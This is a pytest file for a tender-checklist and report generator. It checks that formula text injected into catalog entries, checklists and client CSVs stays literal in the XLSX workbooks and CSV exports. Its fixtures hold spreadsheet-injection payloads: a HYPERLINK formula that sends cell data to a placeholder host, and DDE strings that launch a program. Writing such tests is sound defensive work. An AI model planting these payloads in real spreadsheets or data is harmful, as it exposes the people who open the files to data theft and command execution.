"""Text from data never becomes a formula: not in a workbook, not in a CSV a spreadsheet opens.

Hostile text starting with ``=``, ``+``, ``-`` or ``@`` (and control characters, which used to make
every workbook fail) is put where each kind of user typed it: the catalog (tender title, requirement
title and text), the filled checklist (provider, evidence, owner, explanation) and the client
registrations (municipalities, next place, exit reason; control characters in the next place: the
YAML readers refuse them, a CSV cell can hold them). Then every workbook is read as XML: no
``<f>`` element anywhere, except the counting formulas the checklist's overview sheet is built with,
and every hostile text is there as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner, Result

from generator.assess.checklist import render_yaml
from generator.catalog.load import load_catalog
from generator.cli import main
from tests.catalog_edits import edit_requirement

FORMULAS = [
    '=HYPERLINK("http://voorbeeld.invalid/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CONTROL = "regel\x1b[31m rood\x07\x0b"
PEILDATUM = "2027-12-31"


def run(*args: str) -> Result:
    result = CliRunner().invoke(main, list(args))
    assert "Traceback" not in result.output, result.output
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def hostile(tmp_path: Path, catalog_copy: Path) -> dict[str, Path]:
    """A catalog, a filled checklist and client registrations holding the hostile texts."""
    tender = catalog_copy / "voorbeeld-opvang" / "tender.yaml"
    data = yaml.safe_load(tender.read_text(encoding="utf-8"))
    data["title"] = f"{FORMULAS[0]} {data['title']}"
    tender.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    req = load_catalog(catalog_copy).requirement("VBO-STA-01")
    edit_requirement(
        catalog_copy, "staffing", "VBO-STA-01", title=f"{FORMULAS[1]} {req.title}", text=f"@SUM(1+1) {req.text}"
    )
    assert run("validate", str(catalog_copy))
    filled = yaml.safe_load(render_yaml(list(load_catalog(catalog_copy).tenders)))
    filled["provider"] = FORMULAS[2] + " Stichting"
    for item in filled["tenders"][0]["requirements"]:
        item.update(status="voldoet deels", evidence=FORMULAS[0], owner=FORMULAS[3], explanation=FORMULAS[1])
    checklist = tmp_path / "invulling.yaml"
    checklist.write_text(yaml.safe_dump(filled, allow_unicode=True, sort_keys=False), encoding="utf-8")
    header = "client_id;doelgroep;gemeente_herkomst;datum_melding;datum_plan;datum_uitstroom;type_vervolgplek"
    rows = [header + ";reden_uitstroom"]
    for n in range(12):
        rows.append(
            f"K{n:03d};acuut;{FORMULAS[n % 2]};2027-0{1 + n % 3}-0{1 + n % 9} 10:00;2027-0{1 + n % 3}-10 09:00;"
            f"2027-06-30;{FORMULAS[3] if n % 3 else CONTROL};{FORMULAS[2]}"
        )
    clients = tmp_path / "clienten.csv"
    clients.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return {"catalog": catalog_copy, "checklist": checklist, "clients": clients}


def _workbooks(hostile: dict[str, Path], folder: Path) -> dict[str, Path]:
    catalog, checklist, clients = (str(hostile[k]) for k in ("catalog", "checklist", "clients"))
    kpi = ["--tender", "voorbeeld-opvang", "--catalog", catalog, "--peildatum", PEILDATUM, "--min-cel", "1"]
    made = {
        "checklist": ["checklist", "--catalog", catalog, "--format", "xlsx"],
        "export": ["export", "--catalog", catalog, "--format", "xlsx"],
        "gap": [
            "gap",
            checklist,
            "--catalog",
            catalog,
            "--clients",
            clients,
            "--peildatum",
            PEILDATUM,
            "--format",
            "xlsx",
        ],
        "kpi": ["kpi", clients, *kpi, "--format", "xlsx"],
        "kwartaal": ["kwartaalrapportage", clients, *kpi, "--period", "2027-Q1", "--format", "xlsx"],
        "monitor": ["monitor", clients, *kpi],
    }
    out = {}
    for name, args in made.items():
        out[name] = folder / f"{name}.xlsx"
        run(*args, "-o", str(out[name]))
    return out


CELL_REFERENCE = r"<f>'[^'!]+'!\$?[A-Z]+\$?\d+(:\$?[A-Z]+\$?\d+)?</f>"  # 'Grafiek'!$B$2:$B$9


_CHARACTER_REFERENCE = re.compile(r"&#(x[0-9a-fA-F]+|[0-9]+);")


def _sheets(path: Path) -> dict[str, str]:
    """The XML parts, numeric character references read as the characters they are (as a reader sees them).

    openpyxl writes non-ASCII text as references when it writes with lxml (``&#65533;``), as raw
    UTF-8 otherwise; both hold the same text.
    """
    with zipfile.ZipFile(path) as archive:
        return {
            name: _CHARACTER_REFERENCE.sub(_character, archive.read(name).decode("utf-8"))
            for name in archive.namelist()
            if name.endswith(".xml")
        }


def _character(match: re.Match[str]) -> str:
    code = match.group(1)
    return chr(int(code[1:], 16) if code[0] == "x" else int(code))


def test_no_text_from_data_is_a_formula_in_any_workbook(hostile: dict[str, Path], tmp_path: Path):
    for name, path in _workbooks(hostile, tmp_path).items():
        parts = _sheets(path)
        everything = "".join(parts.values())
        for part, xml in parts.items():
            formulas = re.findall(r"<f[ >].*?</f>|<f/>", xml)
            if name == "checklist" and part == "xl/worksheets/sheet1.xml":  # the overview's own counts
                assert formulas and all(re.fullmatch(r"<f>COUNTIFS?\(.*\)</f>", f) for f in formulas), formulas
            elif part.startswith("xl/charts/"):  # a native chart's data: references to cells, nothing else
                assert all(re.fullmatch(r"<f>'[^'!]+'!\$?[A-Z]+\$?\d+(:\$?[A-Z]+\$?\d+)?</f>", f) for f in formulas), (
                    formulas
                )
            else:
                assert formulas == [], (name, part, formulas[:3])
        assert 't="e"' not in everything, name
        shown = [text for text in FORMULAS if text.replace("&", "&amp;").replace('"', "&quot;") in everything]
        assert shown, f"{name}: de tekst zelf ontbreekt"
        assert "\x1b" not in everything and "\x07" not in everything, name
        if name in ("monitor", "kpi"):  # the next place (monitor) and a municipality (KPI per gemeente)
            assert ("regel\ufffd[31m rood" in everything) == (name == "monitor"), name


def test_the_gap_workbook_shows_every_typed_text_literally(hostile: dict[str, Path], tmp_path: Path):
    from openpyxl import load_workbook

    path = _workbooks(hostile, tmp_path)["gap"]
    gaps = load_workbook(path)["Gaps"]
    header = [cell.value for cell in gaps[1]]
    first = {header[i]: cell for i, cell in enumerate(gaps[2])}
    assert first["Aanbieder"].value == FORMULAS[2] + " Stichting"
    assert first["Bewijs"].value == FORMULAS[0] and first["Bewijs"].data_type == "s"
    assert first["Eigenaar"].value == FORMULAS[3] and first["Eigenaar"].quotePrefix


def test_csv_export_neutralises_a_leading_formula_character(hostile: dict[str, Path], tmp_path: Path):
    out = tmp_path / "catalogus.csv"
    run("export", "--catalog", str(hostile["catalog"]), "--format", "csv", "-o", str(out))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{FORMULAS[1]} Niveau 3 onder toezicht van niveau 4" in cells
    assert any(cell.startswith("'@SUM(1+1) Een niveau 3") for cell in cells)
